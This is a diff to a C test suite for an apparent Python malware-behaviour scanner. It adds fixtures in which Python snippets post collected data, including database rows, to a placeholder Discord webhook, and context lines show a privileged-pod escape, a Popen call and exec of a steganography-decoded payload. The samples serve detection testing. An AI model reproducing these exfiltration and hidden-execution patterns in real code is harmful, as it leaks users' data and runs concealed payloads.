@@ -145,6 +145,23 @@ static void hides_text(void)
 	CHECK(lacks("pod = {'hostPID': False, 'containers': [{\n"
 		    "'securityContext': {'privileged': True}}]}",
 		    MPY_BEH_ESCAPE));
+	/* what was gathered, though a parameter stands beside it */
+	static const char *const gathered[] = {
+		"def f(e):\n  post(H, json={'content': gather(), 'to': e})",
+		"class A:\n  def f(self):\n    post(H, json={'content': self.x})",
+		"import loot\ndef f(e):\n  post(H, json={'content': loot.x})",
+		"def f(p):\n  rows = q(p).fetchall()\n"
+		"  post(H, json={'content': str(rows)})",
+	};
+	char text[400];
+
+	for (size_t i = 0; i < sizeof(gathered) / sizeof(gathered[0]); i++) {
+		snprintf(text, sizeof(text),
+			 "from requests import post\n"
+			 "H = 'https://discord.com/api/webhooks/1/x'\n%s",
+			 gathered[i]);
+		CHECK(shows(text, MPY_BEH_WEBHOOK_SEND, 0));
+	}
 	CHECK(shows("Popen(['id'])", MPY_BEH_RUN_COMMAND, 1));
 	CHECK(shows("from stegano import lsb\nexec(lsb.reveal('a.png'))",
 		    MPY_BEH_DECODE_EXEC, 2));
